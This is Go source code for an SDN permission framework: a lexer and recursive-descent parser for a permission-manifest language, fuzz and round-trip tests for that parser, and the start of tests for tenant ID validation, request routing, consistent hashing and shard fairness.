	return isIdentStart(c) || (c >= '0' && c <= '9')
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

// Next returns the next token.
func (l *Lexer) Next() (Token, error) {
	l.skipSpaceAndComments()
	line, col := l.line, l.col
	c, ok := l.peekByte()
	if !ok {
		return Token{Kind: TokEOF, Line: line, Col: col}, nil
	}

	switch {
	case isIdentStart(c):
		start := l.pos
		for {
			c, ok := l.peekByte()
			if !ok || !isIdentPart(c) {
				break
			}
			l.advance()
		}
		return Token{Kind: TokIdent, Text: l.src[start:l.pos], Line: line, Col: col}, nil

	case isDigit(c):
		return l.lexNumber(line, col)

	case c == '"':
		l.advance()
		var sb strings.Builder
		for {
			c, ok := l.peekByte()
			if !ok {
				return Token{}, l.errorf("unterminated string")
			}
			l.advance()
			if c == '"' {
				break
			}
			sb.WriteByte(c)
		}
		return Token{Kind: TokString, Text: sb.String(), Line: line, Col: col}, nil

	case c == '{':
		l.advance()
		return Token{Kind: TokLBrace, Line: line, Col: col}, nil
	case c == '}':
		l.advance()
		return Token{Kind: TokRBrace, Line: line, Col: col}, nil
	case c == '(':
		l.advance()
		return Token{Kind: TokLParen, Line: line, Col: col}, nil
	case c == ')':
		l.advance()
		return Token{Kind: TokRParen, Line: line, Col: col}, nil
	case c == ',':
		l.advance()
		return Token{Kind: TokComma, Line: line, Col: col}, nil
	case c == '-':
		l.advance()
		return Token{Kind: TokDash, Line: line, Col: col}, nil
	case c == '=':
		l.advance()
		return Token{Kind: TokEq, Line: line, Col: col}, nil
	case c == '<':
		l.advance()
		if c2, ok := l.peekByte(); ok && c2 == '=' {
			l.advance()
			return Token{Kind: TokLe, Line: line, Col: col}, nil
		}
		return Token{Kind: TokLt, Line: line, Col: col}, nil
	case c == '>':
		l.advance()
		if c2, ok := l.peekByte(); ok && c2 == '=' {
			l.advance()
			return Token{Kind: TokGe, Line: line, Col: col}, nil
		}
		return Token{Kind: TokGt, Line: line, Col: col}, nil
	default:
		return Token{}, l.errorf("unexpected character %q", string(c))
	}
}

// lexNumber lexes an integer or a dotted-quad IPv4 address.
func (l *Lexer) lexNumber(line, col int) (Token, error) {
	start := l.pos
	dots := 0
	for {
		c, ok := l.peekByte()
		if !ok {
			break
		}
		if isDigit(c) {
			l.advance()
			continue
		}
		// A dot continues the number only when followed by a digit,
		// leaving "0,1..." style ellipses to error clearly.
		if c == '.' && l.pos+1 < len(l.src) && isDigit(l.src[l.pos+1]) {
			dots++
			l.advance()
			continue
		}
		break
	}
	text := l.src[start:l.pos]
	switch dots {
	case 0:
		n, err := strconv.ParseUint(text, 10, 64)
		if err != nil {
			return Token{}, l.errorf("bad integer %q", text)
		}
		return Token{Kind: TokInt, Num: n, Text: text, Line: line, Col: col}, nil
	case 3:
		parts := strings.Split(text, ".")
		var ip uint64
		for _, p := range parts {
			n, err := strconv.ParseUint(p, 10, 8)
			if err != nil {
				return Token{}, l.errorf("bad IPv4 octet %q in %q", p, text)
			}
			ip = ip<<8 | n
		}
		return Token{Kind: TokIP, Num: ip, Text: text, Line: line, Col: col}, nil
	default:
		return Token{}, l.errorf("malformed number %q", text)
	}
}
