package permlang

import (
	"fmt"
	"math"
	"strings"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
)

// Manifest is a parsed permission manifest: the ordered permission
// requests an app ships with, plus any declared resource budget.
// Filters may contain unresolved macro stubs (core.MacroRef) awaiting
// administrator bindings.
type Manifest struct {
	Permissions []core.Permission
	// Budget holds the manifest's BUDGET declarations (soft resource
	// quotas enforced by the isolation layer); zero means none.
	Budget core.Budget
}

// Set compiles the manifest into a permission set. Duplicate tokens widen
// each other, as in core.Set.Grant.
func (m *Manifest) Set() *core.Set {
	s := core.NewSet()
	for _, p := range m.Permissions {
		s.Grant(p.Token, p.Filter)
	}
	return s
}

// Macros lists the distinct unresolved macro names, in first-use order.
func (m *Manifest) Macros() []string {
	seen := make(map[string]bool)
	var out []string
	var walk func(e core.Expr)
	walk = func(e core.Expr) {
		switch v := e.(type) {
		case *core.MacroRef:
			if !seen[v.Name] {
				seen[v.Name] = true
				out = append(out, v.Name)
			}
		case *core.Not:
			walk(v.X)
		case *core.And:
			walk(v.L)
			walk(v.R)
		case *core.Or:
			walk(v.L)
			walk(v.R)
		}
	}
	for _, p := range m.Permissions {
		walk(p.Filter)
	}
	return out
}

// String renders the manifest in permission-language syntax: the
// permission statements in order, then the BUDGET statements in
// canonical key order (so print∘parse is a fixpoint).
func (m *Manifest) String() string {
	var sb strings.Builder
	for i, p := range m.Permissions {
		if i > 0 {
			sb.WriteString("\n")
		}
		sb.WriteString(p.String())
	}
	if bs := m.Budget.String(); bs != "" {
		if sb.Len() > 0 {
			sb.WriteString("\n")
		}
		sb.WriteString(bs)
	}
	return sb.String()
}

// Parse parses a complete permission manifest.
func Parse(src string) (*Manifest, error) {
	p, err := NewParser(src)
	if err != nil {
		return nil, err
	}
	m := &Manifest{}
	for p.Tok().Kind != TokEOF {
		if p.isKeyword("BUDGET") {
			if err := p.parseBudgetStatement(&m.Budget); err != nil {
				return nil, err
			}
			continue
		}
		perm, err := p.ParsePermStatement()
		if err != nil {
			return nil, err
		}
		m.Permissions = append(m.Permissions, perm)
	}
	return m, nil
}

// parseBudgetStatement parses one "BUDGET key value" declaration. A key
// repeated later in the manifest overwrites the earlier value.
func (p *Parser) parseBudgetStatement(b *core.Budget) error {
	if err := p.ExpectKeyword("BUDGET"); err != nil {
		return err
	}
	keyTok, err := p.expect(TokIdent)
	if err != nil {
		return err
	}
	valTok, err := p.expect(TokInt)
	if err != nil {
		return err
	}
	if valTok.Num > math.MaxInt64 {
		return &SyntaxError{Line: valTok.Line, Col: valTok.Col,
			Msg: fmt.Sprintf("budget value %d out of range", valTok.Num)}
	}
	if !b.SetBudgetKey(keyTok.Text, int64(valTok.Num)) {
		return &SyntaxError{Line: keyTok.Line, Col: keyTok.Col,
			Msg: fmt.Sprintf("unknown budget key %q (valid: %s)", keyTok.Text, strings.Join(core.BudgetKeys(), ", "))}
	}
	return nil
}

// ParseFilter parses a standalone filter expression (the administrator's
// §V-A "directly appending permission filters" customization path).
func ParseFilter(src string) (core.Expr, error) {
	p, err := NewParser(src)
	if err != nil {
		return nil, err
	}
	expr, err := p.ParseFilterExpr()
	if err != nil {
		return nil, err
	}
	if p.Tok().Kind != TokEOF {
		return nil, &SyntaxError{Line: p.Tok().Line, Col: p.Tok().Col,
			Msg: fmt.Sprintf("unexpected trailing %s %q", p.Tok().Kind, p.Tok().Text)}
	}
	return expr, nil
}

// MustParse is Parse for tests and package-level examples; it panics on
// error.
func MustParse(src string) *Manifest {
	m, err := Parse(src)
	if err != nil {
		panic(err)
	}
	return m
}

// Parser is a recursive-descent parser over the shared lexer. It is
// exported so the policy language can embed permission expressions.
type Parser struct {
	lex *Lexer
	tok Token
}

// NewParser builds a parser and primes the first token.
func NewParser(src string) (*Parser, error) {
	p := &Parser{lex: NewLexer(src)}
	return p, p.next()
}

// Tok returns the current lookahead token.
func (p *Parser) Tok() Token { return p.tok }

// State is an opaque parser snapshot for limited backtracking (used by
// the policy-language parser to disambiguate parenthesized expressions).
type State struct {
	lex Lexer
	tok Token
}

// Save captures the current parser position.
func (p *Parser) Save() State { return State{lex: *p.lex, tok: p.tok} }

// Restore rewinds to a previously saved position.
func (p *Parser) Restore(s State) {
	*p.lex = s.lex
	p.tok = s.tok
}

func (p *Parser) next() error {
	tok, err := p.lex.Next()
	if err != nil {
		return err
	}
	p.tok = tok
	return nil
}

// Next advances the lookahead (exported for embedding parsers).
func (p *Parser) Next() error { return p.next() }

func (p *Parser) errorf(format string, args ...interface{}) error {
	return &SyntaxError{Line: p.tok.Line, Col: p.tok.Col, Msg: fmt.Sprintf(format, args...)}
}

// isKeyword reports whether the lookahead is the given (case-insensitive)
// keyword identifier.
func (p *Parser) isKeyword(kw string) bool {
	return p.tok.Kind == TokIdent && strings.EqualFold(p.tok.Text, kw)
}

// AcceptKeyword consumes the keyword if present.
func (p *Parser) AcceptKeyword(kw string) (bool, error) {
	if !p.isKeyword(kw) {
		return false, nil
	}
	return true, p.next()
}

// ExpectKeyword consumes the keyword or fails.
func (p *Parser) ExpectKeyword(kw string) error {
	if !p.isKeyword(kw) {
		return p.errorf("expected %s, found %s %q", kw, p.tok.Kind, p.tok.Text)
	}
	return p.next()
}

func (p *Parser) expect(kind TokKind) (Token, error) {
	if p.tok.Kind != kind {
		return Token{}, p.errorf("expected %s, found %s %q", kind, p.tok.Kind, p.tok.Text)
	}
	tok := p.tok
	return tok, p.next()
}

// ParsePermStatement parses one "PERM token [LIMITING filter_expr]".
func (p *Parser) ParsePermStatement() (core.Permission, error) {
	if err := p.ExpectKeyword("PERM"); err != nil {
		return core.Permission{}, err
	}
	nameTok, err := p.expect(TokIdent)
	if err != nil {
		return core.Permission{}, err
	}
	token, ok := core.ParseToken(nameTok.Text)
	if !ok {
		return core.Permission{}, &SyntaxError{Line: nameTok.Line, Col: nameTok.Col,
			Msg: fmt.Sprintf("unknown permission token %q", nameTok.Text)}
	}
	perm := core.Permission{Token: token}
	limiting, err := p.AcceptKeyword("LIMITING")
	if err != nil {
		return core.Permission{}, err
	}
	if limiting {
		filter, err := p.ParseFilterExpr()
		if err != nil {
			return core.Permission{}, err
		}
		perm.Filter = filter
	}
	return perm, nil
}

// ParseFilterExpr parses a filter expression with precedence
// NOT > AND > OR.
func (p *Parser) ParseFilterExpr() (core.Expr, error) {
	return p.parseOr()
}

func (p *Parser) parseOr() (core.Expr, error) {
	left, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for {
		ok, err := p.AcceptKeyword("OR")
		if err != nil {
			return nil, err
		}
		if !ok {
			return left, nil
		}
		right, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		left = &core.Or{L: left, R: right}
	}
}

func (p *Parser) parseAnd() (core.Expr, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		ok, err := p.AcceptKeyword("AND")
		if err != nil {
			return nil, err
		}
		if !ok {
			return left, nil
		}
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		left = &core.And{L: left, R: right}
	}
}

func (p *Parser) parseUnary() (core.Expr, error) {
	ok, err := p.AcceptKeyword("NOT")
	if err != nil {
		return nil, err
	}
	if ok {
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &core.Not{X: x}, nil
	}
	if p.tok.Kind == TokLParen {
		if err := p.next(); err != nil {
			return nil, err
		}
		e, err := p.ParseFilterExpr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(TokRParen); err != nil {
			return nil, err
		}
		return e, nil
	}
	return p.parseSingleton()
}

// parseSingleton parses one singleton filter or macro reference.
func (p *Parser) parseSingleton() (core.Expr, error) {
	if p.tok.Kind != TokIdent {
		return nil, p.errorf("expected a filter, found %s %q", p.tok.Kind, p.tok.Text)
	}
	word := strings.ToUpper(p.tok.Text)

	switch word {
	case "OWN_FLOWS":
		return p.leafNext(core.NewOwnerFilter(true))
	case "ALL_FLOWS":
		return p.leafNext(core.NewOwnerFilter(false))
	case "FROM_PKT_IN":
		return p.leafNext(core.NewPktOutFilter(false))
	case "ARBITRARY":
		return p.leafNext(core.NewPktOutFilter(true))
	case "EVENT_INTERCEPTION":
		return p.leafNext(core.NewCallbackFilter(core.CallbackIntercept))
	case "MODIFY_EVENT_ORDER":
		return p.leafNext(core.NewCallbackFilter(core.CallbackReorder))
	case "FLOW_LEVEL":
		return p.leafNext(core.NewStatsFilter(of.StatsFlow))
	case "PORT_LEVEL":
		return p.leafNext(core.NewStatsFilter(of.StatsPort))
	case "SWITCH_LEVEL":
		return p.leafNext(core.NewStatsFilter(of.StatsSwitch))
	case "MAX_PRIORITY", "MIN_PRIORITY":
		if err := p.next(); err != nil {
			return nil, err
		}
		n, err := p.expect(TokInt)
		if err != nil {
			return nil, err
		}
		if n.Num > 0xffff {
			return nil, p.errorf("priority %d out of range", n.Num)
		}
		if word == "MAX_PRIORITY" {
			return core.NewLeaf(core.NewMaxPriorityFilter(uint16(n.Num))), nil
		}
		return core.NewLeaf(core.NewMinPriorityFilter(uint16(n.Num))), nil
	case "MAX_RULE_COUNT":
		if err := p.next(); err != nil {
			return nil, err
		}
		n, err := p.expect(TokInt)
		if err != nil {
			return nil, err
		}
		return core.NewLeaf(core.NewTableSizeFilter(int(n.Num))), nil
	case "ACTION", "DROP", "FORWARD", "MODIFY":
		return p.parseActionFilter()
	case "WILDCARD":
		return p.parseWildcardFilter()
	case "SWITCH":
		return p.parsePhysTopoFilter()
	case "VIRTUAL":
		return p.parseVirtTopoFilter()
	}

	// A field name starts a predicate filter.
	if field, ok := of.ParseField(p.tok.Text); ok {
		return p.parsePredFilter(field)
	}

	// Anything else is a macro stub for the administrator to bind.
	name := p.tok.Text
	return &core.MacroRef{Name: name}, p.next()
}

func (p *Parser) leafNext(f core.Filter) (core.Expr, error) {
	return core.NewLeaf(f), p.next()
}

// parseValue accepts an integer or IPv4 literal.
func (p *Parser) parseValue() (uint64, error) {
	if p.tok.Kind != TokInt && p.tok.Kind != TokIP {
		return 0, p.errorf("expected a value, found %s %q", p.tok.Kind, p.tok.Text)
	}
	v := p.tok.Num
	return v, p.next()
}

func (p *Parser) parsePredFilter(field of.Field) (core.Expr, error) {
	if err := p.next(); err != nil {
		return nil, err
	}
	value, err := p.parseValue()
	if err != nil {
		return nil, err
	}
	mask := of.FullMask(field)
	ok, err := p.AcceptKeyword("MASK")
	if err != nil {
		return nil, err
	}
	if ok {
		mask, err = p.parseValue()
		if err != nil {
			return nil, err
		}
	}
	return core.NewLeaf(core.NewPredFilter(field, value, mask)), nil
}

func (p *Parser) parseWildcardFilter() (core.Expr, error) {
	if err := p.next(); err != nil {
		return nil, err
	}
	fieldTok, err := p.expect(TokIdent)
	if err != nil {
		return nil, err
	}
	field, ok := of.ParseField(fieldTok.Text)
	if !ok {
		return nil, &SyntaxError{Line: fieldTok.Line, Col: fieldTok.Col,
			Msg: fmt.Sprintf("unknown match field %q", fieldTok.Text)}
	}
	required, err := p.parseValue()
	if err != nil {
		return nil, err
	}
	return core.NewLeaf(core.NewWildcardFilter(field, required)), nil
}

func (p *Parser) parseActionFilter() (core.Expr, error) {
	// Optional ACTION prefix (the grammar omits it; the paper's examples
	// include it).
	if _, err := p.AcceptKeyword("ACTION"); err != nil {
		return nil, err
	}
	if p.tok.Kind != TokIdent {
		return nil, p.errorf("expected DROP, FORWARD or MODIFY")
	}
	switch strings.ToUpper(p.tok.Text) {
	case "DROP":
		return p.leafNext(core.NewActionFilter(core.ActionClassDrop))
	case "FORWARD":
		return p.leafNext(core.NewActionFilter(core.ActionClassForward))
	case "MODIFY":
		if err := p.next(); err != nil {
			return nil, err
		}
		// Optional field restriction.
		if p.tok.Kind == TokIdent {
			if field, ok := of.ParseField(p.tok.Text); ok {
				return core.NewLeaf(core.NewModifyActionFilter(field)), p.next()
			}
		}
		return core.NewLeaf(core.NewModifyActionFilter(0)), nil
	default:
		return nil, p.errorf("expected DROP, FORWARD or MODIFY, found %q", p.tok.Text)
	}
}

// parseIntSet parses "{1,2,3}" or a bare "1,2,3" list.
func (p *Parser) parseIntSet() ([]uint64, error) {
	braced := p.tok.Kind == TokLBrace
	if braced {
		if err := p.next(); err != nil {
			return nil, err
		}
		if p.tok.Kind == TokRBrace {
			return nil, p.next() // empty set
		}
	}
	var out []uint64
	for {
		n, err := p.expect(TokInt)
		if err != nil {
			return nil, err
		}
		out = append(out, n.Num)
		if p.tok.Kind != TokComma {
			break
		}
		if err := p.next(); err != nil {
			return nil, err
		}
	}
	if braced {
		if _, err := p.expect(TokRBrace); err != nil {
			return nil, err
		}
	}
	return out, nil
}

// parseLinkSet parses "{1-2, 3-4}" or a bare "1-2, 3-4" list.
func (p *Parser) parseLinkSet() ([]core.LinkID, error) {
	braced := p.tok.Kind == TokLBrace
	if braced {
		if err := p.next(); err != nil {
			return nil, err
		}
		if p.tok.Kind == TokRBrace {
			return nil, p.next()
		}
	}
	var out []core.LinkID
	for {
		a, err := p.expect(TokInt)
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(TokDash); err != nil {
			return nil, err
		}
		b, err := p.expect(TokInt)
		if err != nil {
			return nil, err
		}
		out = append(out, core.NewLinkID(of.DPID(a.Num), of.DPID(b.Num)))
		if p.tok.Kind != TokComma {
			break
		}
		if err := p.next(); err != nil {
			return nil, err
		}
	}
	if braced {
		if _, err := p.expect(TokRBrace); err != nil {
			return nil, err
		}
	}
	return out, nil
}

func (p *Parser) parsePhysTopoFilter() (core.Expr, error) {
	if err := p.next(); err != nil { // consume SWITCH
		return nil, err
	}
	rawSwitches, err := p.parseIntSet()
	if err != nil {
		return nil, err
	}
	switches := make([]of.DPID, len(rawSwitches))
	for i, s := range rawSwitches {
		switches[i] = of.DPID(s)
	}
	hasLinks, err := p.AcceptKeyword("LINK")
	if err != nil {
		return nil, err
	}
	if !hasLinks {
		return core.NewLeaf(core.NewPhysTopoFilter(switches)), nil
	}
	links, err := p.parseLinkSet()
	if err != nil {
		return nil, err
	}
	return core.NewLeaf(core.NewPhysTopoFilterWithLinks(switches, links)), nil
}

func (p *Parser) parseVirtTopoFilter() (core.Expr, error) {
	if err := p.next(); err != nil { // consume VIRTUAL
		return nil, err
	}
	if ok, err := p.AcceptKeyword("SINGLE_BIG_SWITCH"); err != nil {
		return nil, err
	} else if ok {
		// Optional "LINK EXTERNAL_LINKS": the big switch's ports are the
		// external links, which is this implementation's only behaviour.
		if hasLink, err := p.AcceptKeyword("LINK"); err != nil {
			return nil, err
		} else if hasLink {
			if err := p.ExpectKeyword("EXTERNAL_LINKS"); err != nil {
				return nil, err
			}
		}
		return core.NewLeaf(core.NewSingleBigSwitchFilter()), nil
	}

	// Mapped form: { {1,2} AS 100, {3} AS 101 }.
	if _, err := p.expect(TokLBrace); err != nil {
		return nil, err
	}
	groups := make(map[of.DPID][]of.DPID)
	for {
		members, err := p.parseIntSet()
		if err != nil {
			return nil, err
		}
		if err := p.ExpectKeyword("AS"); err != nil {
			return nil, err
		}
		vid, err := p.expect(TokInt)
		if err != nil {
			return nil, err
		}
		ms := make([]of.DPID, len(members))
		for i, m := range members {
			ms[i] = of.DPID(m)
		}
		groups[of.DPID(vid.Num)] = ms
		if p.tok.Kind != TokComma {
			break
		}
		if err := p.next(); err != nil {
			return nil, err
		}
	}
	if _, err := p.expect(TokRBrace); err != nil {
		return nil, err
	}
	// Optional LINK clause on the virtual view.
	if hasLink, err := p.AcceptKeyword("LINK"); err != nil {
		return nil, err
	} else if hasLink {
		if _, err := p.parseLinkSet(); err != nil {
			return nil, err
		}
	}
	return core.NewLeaf(core.NewMappedTopoFilter(groups)), nil
}
