package permlang

import (
	"math/rand"
	"strings"
	"testing"
)

// corpus of valid sources to mutate.
var fuzzCorpus = []string{
	"PERM read_flow_table LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0",
	"PERM insert_flow LIMITING WILDCARD IP_DST 255.255.255.0",
	"PERM insert_flow LIMITING (ACTION FORWARD AND OWN_FLOWS) OR MAX_PRIORITY 10",
	"PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS",
	"PERM visible_topology LIMITING SWITCH {1,2} LINK {1-2}",
	"PERM visible_topology LIMITING VIRTUAL {{1,2} AS 100, {3} AS 101}",
	"PERM send_pkt_out LIMITING FROM_PKT_IN\nPERM read_statistics LIMITING PORT_LEVEL",
	"PERM network_access LIMITING AdminRange",
}

// TestParseFuzzNoPanics mutates valid manifests; the parser must return
// an error or a manifest, never panic.
func TestParseFuzzNoPanics(t *testing.T) {
	r := rand.New(rand.NewSource(2026))
	alphabet := []byte("PERMLIITNG(){},-<>=0123456789. ABCxyz_\n\\\"")
	for _, src := range fuzzCorpus {
		for i := 0; i < 500; i++ {
			mutated := []byte(src)
			for j := 0; j < 1+r.Intn(5); j++ {
				switch r.Intn(3) {
				case 0: // flip
					mutated[r.Intn(len(mutated))] = alphabet[r.Intn(len(alphabet))]
				case 1: // delete
					pos := r.Intn(len(mutated))
					mutated = append(mutated[:pos], mutated[pos+1:]...)
					if len(mutated) == 0 {
						mutated = []byte("P")
					}
				default: // insert
					pos := r.Intn(len(mutated))
					mutated = append(mutated[:pos],
						append([]byte{alphabet[r.Intn(len(alphabet))]}, mutated[pos:]...)...)
				}
			}
			//nolint:errcheck // error or success both acceptable
			Parse(string(mutated))
		}
	}
}

// TestParsePrintFixpoint: printing a parsed manifest and reparsing yields
// the same rendering (printer/parser fixpoint over the corpus).
func TestParsePrintFixpoint(t *testing.T) {
	for _, src := range fuzzCorpus {
		if strings.Contains(src, "AdminRange") {
			continue // macros print as bare identifiers; still covered below
		}
		m1, err := Parse(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		m2, err := Parse(m1.String())
		if err != nil {
			t.Fatalf("reparse %q: %v", m1.String(), err)
		}
		if m1.String() != m2.String() {
			t.Errorf("not a fixpoint:\n1: %s\n2: %s", m1, m2)
		}
	}
	// Macro manifests round-trip too.
	m1 := MustParse("PERM network_access LIMITING AdminRange")
	m2 := MustParse(m1.String())
	if m1.String() != m2.String() || len(m2.Macros()) != 1 {
		t.Error("macro manifest not stable")
	}
}
