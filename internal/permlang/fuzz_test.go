package permlang

import (
	"math/rand"
	"strings"
	"testing"
)

// corpus of valid sources to mutate.
var fuzzCorpus = []string{
	"PERM read_flow_table LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0",
	"PERM insert_flow LIMITING WILDCARD IP_DST 255.255.255.0",
	"PERM insert_flow LIMITING (ACTION FORWARD AND OWN_FLOWS) OR MAX_PRIORITY 10",
	"PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS",
	"PERM visible_topology LIMITING SWITCH {1,2} LINK {1-2}",
	"PERM visible_topology LIMITING VIRTUAL {{1,2} AS 100, {3} AS 101}",
	"PERM send_pkt_out LIMITING FROM_PKT_IN\nPERM read_statistics LIMITING PORT_LEVEL",
	"PERM network_access LIMITING AdminRange",
	"PERM pkt_in_event\nBUDGET CPU_MS_PER_SEC 250\nBUDGET MAX_GOROUTINES 4",
}

// TestParseFuzzNoPanics mutates valid manifests; the parser must return
// an error or a manifest, never panic.
func TestParseFuzzNoPanics(t *testing.T) {
	r := rand.New(rand.NewSource(2026))
	alphabet := []byte("PERMLIITNG(){},-<>=0123456789. ABCxyz_\n\\\"")
	for _, src := range fuzzCorpus {
		for i := 0; i < 500; i++ {
			mutated := []byte(src)
			for j := 0; j < 1+r.Intn(5); j++ {
				switch r.Intn(3) {
				case 0: // flip
					mutated[r.Intn(len(mutated))] = alphabet[r.Intn(len(alphabet))]
				case 1: // delete
					pos := r.Intn(len(mutated))
					mutated = append(mutated[:pos], mutated[pos+1:]...)
					if len(mutated) == 0 {
						mutated = []byte("P")
					}
				default: // insert
					pos := r.Intn(len(mutated))
					mutated = append(mutated[:pos],
						append([]byte{alphabet[r.Intn(len(alphabet))]}, mutated[pos:]...)...)
				}
			}
			//nolint:errcheck // error or success both acceptable
			Parse(string(mutated))
		}
	}
}

// TestParsePrintFixpoint: printing a parsed manifest and reparsing yields
// the same rendering (printer/parser fixpoint over the corpus).
func TestParsePrintFixpoint(t *testing.T) {
	for _, src := range fuzzCorpus {
		if strings.Contains(src, "AdminRange") {
			continue // macros print as bare identifiers; still covered below
		}
		m1, err := Parse(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		m2, err := Parse(m1.String())
		if err != nil {
			t.Fatalf("reparse %q: %v", m1.String(), err)
		}
		if m1.String() != m2.String() {
			t.Errorf("not a fixpoint:\n1: %s\n2: %s", m1, m2)
		}
	}
	// Macro manifests round-trip too.
	m1 := MustParse("PERM network_access LIMITING AdminRange")
	m2 := MustParse(m1.String())
	if m1.String() != m2.String() || len(m2.Macros()) != 1 {
		t.Error("macro manifest not stable")
	}
}

// FuzzParseManifest is the native fuzz target behind `make fuzz-smoke`.
// The seeds extend fuzzCorpus with the manifests the app-market ships in
// signed release packages (examples/appstore and the market tests), so
// coverage-guided mutation starts from what a hostile vendor would
// actually upload. The contract under fuzz: the parser never panics, and
// anything it accepts survives a render → reparse round trip.
func FuzzParseManifest(f *testing.F) {
	marketCorpus := []string{
		// l2switch@1.0.0 — the canonical learning-switch release.
		"PERM pkt_in_event\nPERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\nPERM send_pkt_out LIMITING FROM_PKT_IN\n",
		// tenant-monitor@1.0.0 — stub macros plus an admin IP range.
		"PERM visible_topology LIMITING LocalTopo\nPERM read_statistics\nPERM network_access LIMITING AdminRange\nPERM insert_flow\n",
		// load-balancer@1.0.0 — wildcard flows, port-level statistics.
		"PERM pkt_in_event\nPERM insert_flow LIMITING WILDCARD IP_DST 255.255.255.0\nPERM send_pkt_out LIMITING FROM_PKT_IN\nPERM read_statistics LIMITING PORT_LEVEL\n",
		// The repaired-boundary shape the market e2e test exercises.
		"PERM pkt_in_event\nPERM read_statistics\nPERM insert_flow LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0\n",
		// Degenerate but legal inputs.
		"",
		"# only a comment\n",
	}
	for _, s := range append(append([]string(nil), fuzzCorpus...), marketCorpus...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		m, err := Parse(src)
		if err != nil {
			return
		}
		rendered := m.String()
		m2, err := Parse(rendered)
		if err != nil {
			t.Fatalf("rendering does not reparse: %v\nsource: %q\nrendered: %q", err, src, rendered)
		}
		if rendered != m2.String() {
			t.Fatalf("render/reparse not a fixpoint\nsource: %q\n1: %q\n2: %q", src, rendered, m2.String())
		}
	})
}
