package tenant

import (
	"encoding/json"
	"errors"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"sdnshield/internal/core"
	"sdnshield/internal/isolation"
	"sdnshield/internal/market"
	"sdnshield/internal/obs"
)

func TestParseID(t *testing.T) {
	good := []string{"a", "acme", "tenant-1", "t0.prod", "a_b-c.d", strings.Repeat("x", MaxIDLen)}
	for _, id := range good {
		if got, err := ParseID(id); err != nil || got != id {
			t.Errorf("ParseID(%q) = %q, %v; want accepted", id, got, err)
		}
	}
	bad := []string{
		"", strings.Repeat("x", MaxIDLen+1), // length
		"Acme", "a b", "a/b", "a\\b", "a\x00b", // charset
		".hidden", "-lead", "_lead", // first char
		"..", "a..b", "a.._", // traversal
	}
	for _, id := range bad {
		if _, err := ParseID(id); !errors.Is(err, ErrBadTenantID) {
			t.Errorf("ParseID(%q) err = %v, want ErrBadTenantID", id, err)
		}
	}
}

func TestFromRequest(t *testing.T) {
	// The header is mandatory: the bare path never grants an identity.
	r := httptest.NewRequest("GET", "/t/acme/market/apps", nil)
	if _, _, err := FromRequest(r); !errors.Is(err, ErrNoTenantHeader) {
		t.Fatalf("headerless err = %v, want ErrNoTenantHeader", err)
	}
	r.Header.Set(HeaderTenant, "acme")
	id, rest, err := FromRequest(r)
	if err != nil || id != "acme" || rest != "/market/apps" {
		t.Fatalf("FromRequest = %q, %q, %v", id, rest, err)
	}

	// Bare tenant root.
	r = httptest.NewRequest("GET", "/t/acme", nil)
	r.Header.Set(HeaderTenant, "acme")
	if id, rest, err = FromRequest(r); err != nil || id != "acme" || rest != "/" {
		t.Fatalf("bare root: %q, %q, %v", id, rest, err)
	}

	// A disagreeing header is rejected.
	r = httptest.NewRequest("GET", "/t/acme/audit", nil)
	r.Header.Set(HeaderTenant, "evil")
	if _, _, err = FromRequest(r); !errors.Is(err, ErrTenantMismatch) {
		t.Fatalf("disagreeing header err = %v, want ErrTenantMismatch", err)
	}

	// Traversal and malformed IDs are refused at the ingress, header or
	// not — the path ID is validated before the header is consulted.
	for _, p := range []string{"/t/", "/t/../audit", "/t/UP/market/apps", "/market/apps"} {
		r = httptest.NewRequest("GET", p, nil)
		r.Header.Set(HeaderTenant, "acme")
		if _, _, err = FromRequest(r); err == nil {
			t.Errorf("FromRequest(%q) accepted", p)
		}
	}
}

func TestJumpHashConsistency(t *testing.T) {
	// Stable: same key, same bucket.
	for _, id := range []string{"acme", "globex", "initech"} {
		if jumpHash(fnv64a(id), 16) != jumpHash(fnv64a(id), 16) {
			t.Fatalf("jumpHash unstable for %q", id)
		}
	}
	// In range, and growing the bucket count relocates only a minority
	// of keys (the consistency property: ~1/n move).
	const keys = 1000
	moved := 0
	for i := 0; i < keys; i++ {
		key := fnv64a("tenant-" + strings.Repeat("x", i%7) + string(rune('a'+i%26)) + strings.Repeat("y", i%5))
		b16 := jumpHash(key, 16)
		b17 := jumpHash(key, 17)
		if b16 < 0 || b16 >= 16 || b17 < 0 || b17 >= 17 {
			t.Fatalf("bucket out of range: %d / %d", b16, b17)
		}
		if b16 != b17 {
			moved++
		}
	}
	if moved > keys/4 { // expected ~1/17 ≈ 6%
		t.Fatalf("growing 16→17 buckets moved %d/%d keys", moved, keys)
	}
}

func TestShardPoolWeightedFairness(t *testing.T) {
	pool := NewShardPool(1, 1)
	defer pool.Close()

	// Occupy the single worker so both flows become backlogged before
	// any service happens.
	plugGate := make(chan struct{})
	plugRunning := make(chan struct{})
	go pool.Run("plug", 1, 0, func() { close(plugRunning); <-plugGate })
	<-plugRunning

	var mu sync.Mutex
	var order []string
	var wg sync.WaitGroup
	const perFlow = 30
	enqueue := func(key string, weight float64) {
		for i := 0; i < perFlow; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				_ = pool.Run(key, weight, 0, func() {
					mu.Lock()
					order = append(order, key)
					mu.Unlock()
				})
			}()
		}
	}
	enqueue("light", 1)
	enqueue("heavy", 2)
	// Wait for the full backlog to queue, then release the worker.
